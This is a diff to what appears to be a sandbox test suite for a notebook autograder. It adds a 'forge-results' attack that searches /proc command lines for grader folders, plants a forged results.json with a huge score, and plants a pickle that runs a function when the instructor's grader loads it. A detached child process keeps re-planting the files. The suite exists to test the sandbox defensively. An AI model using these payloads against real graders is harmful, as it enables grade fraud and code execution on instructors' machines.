@@ -3,8 +3,9 @@
 Each attack tries one action the sandbox must refuse (write a sysctl, set the
 hostname, be root, signal the sandbox, talk to another submission over SysV
 IPC, hold more memory, processes or disk than the caps across several
-processes or files, read another submission's or the instructor's files) and
-answers every question correctly ONLY if the action worked: points mean a hole.
+processes or files, read another submission's or the instructor's files, plant
+its own results where a runner or `otter grade` reads them) and answers every
+question correctly ONLY if the action worked: points mean a hole.
 """
 import textwrap
 
@@ -208,6 +209,53 @@ while not hole and time.time() < deadline:
     time.sleep(0.2)
 '''
 
+# Forged results wherever a grader reads them: results.json (Gradescope's: 10^6 points) and results.pkl,
+# which `otter grade` loads with dill on the instructor's machine (this one, loaded, calls a function of
+# the notebook's choice: a harmless print here). The places: /autograder/results, every results/ folder
+# beside a folder above a path a grader's process runs with (its command lines are world-readable
+# without a pid namespace), and `sgdkit grade --out`'s folder. Then a child goes on trying for a
+# minute, in case the grader writes its own first and the child outlives the kernel.
+FORGE_RESULTS = '''
+import json, os, pickle, time
+class _Forged:
+    def __reduce__(self):
+        return (print, ("this results.pkl was written by the notebook",))
+forged = {"results.json": json.dumps({"score": 1e6, "tests": []}).encode(), "results.pkl": pickle.dumps(_Forged())}
+places = {"/autograder/results"}
+for pid in os.listdir("/proc"):
+    try:
+        with open(f"/proc/{pid}/cmdline", "rb") as f:
+            args = f.read().decode(errors="replace").split("\\0")
+    except OSError:
+        continue
+    for i, arg in enumerate(args):
+        if arg == "--out" and i + 1 < len(args):
+            places.update({args[i + 1], os.path.join(args[i + 1], "results")})
+        while arg.startswith("/") and arg != os.path.dirname(arg):
+            arg = os.path.dirname(arg)
+            places.add(os.path.join(arg, "results"))
+here = os.path.realpath(os.getcwd())  # its own folder is its own to write
+places = sorted(p for p in places if os.path.isdir(p) and not (os.path.realpath(p) + "/").startswith(here + "/"))
+def plant():
+    planted = False
+    for place in places:
+        for name, data in forged.items():
+            try:
+                with open(os.path.join(place, name), "wb") as f:
+                    f.write(data)
+                planted = True
+            except OSError:
+                pass
+    return planted
+hole = plant()
+if os.fork() == 0:
+    os.setsid()
+    for _ in range(300):
+        plant()
+        time.sleep(0.2)
+    os._exit(0)
+'''
+
 
 def _attacks():
     found = []
@@ -231,6 +279,8 @@ def _attacks():
         attack("reach-forks", REACH_FORKS, "signalled, read or traced the fork server, a sandbox or another kernel")
         attack("plant", PLANT, "(pays nothing itself: leaves marks for host-harvest)")
         attack("harvest", HARVEST, "found a mark another submission left in the Python state kernels are forked from")
+        attack("forge-results", FORGE_RESULTS, "wrote results.json or results.pkl (code run by `otter grade` on "
+               "load) where a grader reads them, or into `sgdkit grade`'s output folder")
     return found
 
 
